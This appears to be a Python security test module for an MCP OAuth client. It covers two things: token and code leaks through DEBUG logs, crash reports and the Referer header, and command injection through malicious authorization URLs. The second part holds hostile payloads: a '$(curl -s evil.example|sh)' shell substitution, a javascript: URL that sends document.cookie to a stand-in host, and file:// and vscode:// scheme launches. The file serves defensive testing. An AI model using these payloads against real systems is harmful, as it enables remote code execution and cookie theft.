"""Attacks on what a program leaves behind, and what it starts, on the person's own machine: rows 2 and 14."""

from __future__ import annotations

import logging
import shlex
from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import urlsplit

import httpx

from ...client.callback import CallbackListener
from ...client.handler import OAuthHandler
from ...oauth.errors import McpOAuthError, SecurityError
from ...trace.messages import CLIENT
from ..lab import Lab
from .cast import EVIL, query_of, randomness
from .outcome import Plot, Refused, attack
from .raw_client import code_of
from .starting import opened

# -- 2 -------------------------------------------------------------------------------------------------------------


@attack(
    2,
    "Leak through log and Referer",
    needs=Lab,
    check="secrets mask themselves wherever they are written, and the callback page sends no Referer",
    reference="RFC 9700 section 4.2.4; RFC 6750 section 5.3",
)
async def leak(lab: Lab, plot: Plot) -> None:
    """What is written by the way: the log at DEBUG, a crash report, and the address that a page tells others."""
    client = lab.http_client(CLIENT)
    oauth = OAuthHandler(settings=lab.settings, client=client, clock=lab.clock, token_bytes=randomness("leak"))
    lines: list[str] = []
    with _logged(lines):
        request = oauth.get_authorization_url()
    callback = await lab.browser.authorize(request.url)
    referer = await (_page_of_listener(callback) if plot.defence else _page_with_counter(callback))
    with _logged(lines):
        token = await oauth.complete_authorization(callback)
        if not plot.defence:
            logging.debug("Callback %s brought %s", callback, token.to_dict())
    plot.step("The victim signs in, with a program that logs at DEBUG.")
    crash = "\n".join([repr(oauth), repr(token), repr(request), str(await _an_error(oauth, callback))])
    plot.step("The program crashes later, and sends its log and its variables to where such reports are collected.")
    plot.step("Its page after the sign-in loads a picture from a site that counts visitors.")
    secrets = {
        "access token": token.access_token,
        "refresh token": token.refresh_token or "",
        "code": code_of(callback),
        "code verifier": request.code_verifier,
    }
    found = {name: secret for name, secret in secrets.items() if secret in "\n".join(lines) + crash}
    if not found and query_of(referer) == {}:
        raise Refused("None of the victim's four secrets is in the log, in a repr, in an error or in the Referer.")
    for name, secret in found.items():
        plot.got(f"{name}, from the log", secret)
    plot.got("code, from the Referer", query_of(referer)["code"])


class _Collect(logging.Handler):
    def __init__(self, lines: list[str]):
        super().__init__()
        self._lines = lines

    def emit(self, record: logging.LogRecord) -> None:
        self._lines.append(self.format(record))


@contextmanager
def _logged(lines: list[str]) -> Iterator[None]:
    """Collect all that anybody logs."""
    root = logging.getLogger()
    level, others = root.level, root.handlers[:]
    root.handlers[:] = [_Collect(lines)]
    root.setLevel(logging.DEBUG)
    try:
        yield
    finally:
        root.handlers[:] = others
        root.setLevel(level)


async def _page_of_listener(callback: str) -> str:
    """Visit the real listener's page, and return what a picture on it would get as Referer."""
    async with CallbackListener("http://127.0.0.1/callback", str) as listener:
        address = f"{listener.redirect_uri}?{urlsplit(callback).query}"
        async with httpx.AsyncClient() as browser:
            page = await browser.get(address)
    return _referer(page, address)


async def _page_with_counter(callback: str) -> str:
    """Visit a page that asks for what browsers did by themselves until 2020, as some snippets still do."""
    page = httpx.Response(200, headers={"Referrer-Policy": "no-referrer-when-downgrade"})
    return _referer(page, callback)


def _referer(page: httpx.Response, address: str) -> str:
    """Return what a browser sends along when a page loads something from another site (Referrer Policy, section 3)."""
    policy = page.headers.get("referrer-policy", "strict-origin-when-cross-origin")
    if policy in ("unsafe-url", "no-referrer-when-downgrade"):
        return address
    parts = urlsplit(address)
    return "" if policy in ("no-referrer", "same-origin") else f"{parts.scheme}://{parts.netloc}/"


async def _an_error(oauth: OAuthHandler, callback: str) -> McpOAuthError | None:
    try:
        await oauth.complete_authorization(callback)
    except McpOAuthError as error:
        return error
    return None


# -- 14 ------------------------------------------------------------------------------------------------------------

_COMMAND = "$(curl -s evil.example|sh)"
_URLS = (
    "javascript:fetch('//evil.example/?'+document.cookie)",
    "file:///C:/Windows/System32/calc.exe",
    "vscode://evil.extension/run",
    f"{EVIL}/authorize?x={_COMMAND}",
)


@attack(
    14,
    "Command in the authorization URL",
    needs=Lab,
    check="only http and https are opened, and as one argument: there is no shell",
    reference="CVE-2025-6514; CVE-2025-58747",
)
async def command_in_url(lab: Lab, plot: Plot) -> None:
    """An MCP server names an authorization endpoint that is no place to sign in, but something to run."""
    # Each asks for the answer with a state, as a request does.
    urls = [f"{url}{'&' if '?' in url else '?'}state=s" for url in _URLS]
    tried = await opened(urls, shell=not plot.defence)
    for url, came in zip(_URLS, tried, strict=True):
        for command in came.commands[:1]:
            plot.step(f"{url} becomes the command {shlex.join(command)}")
        if not came.commands:
            plot.step(f"{url} is not opened.")
    *programs, page = tried
    assert page.commands, "the address of a page is opened"
    started = [urlsplit(one.url).scheme for one in programs if one.commands]
    if started:
        plot.learned("started by their scheme", ", ".join(started))
    if page.by_shell:
        plot.learned("a shell that runs", _COMMAND)
    if not plot.obtained:
        raise SecurityError(programs[0].refused)
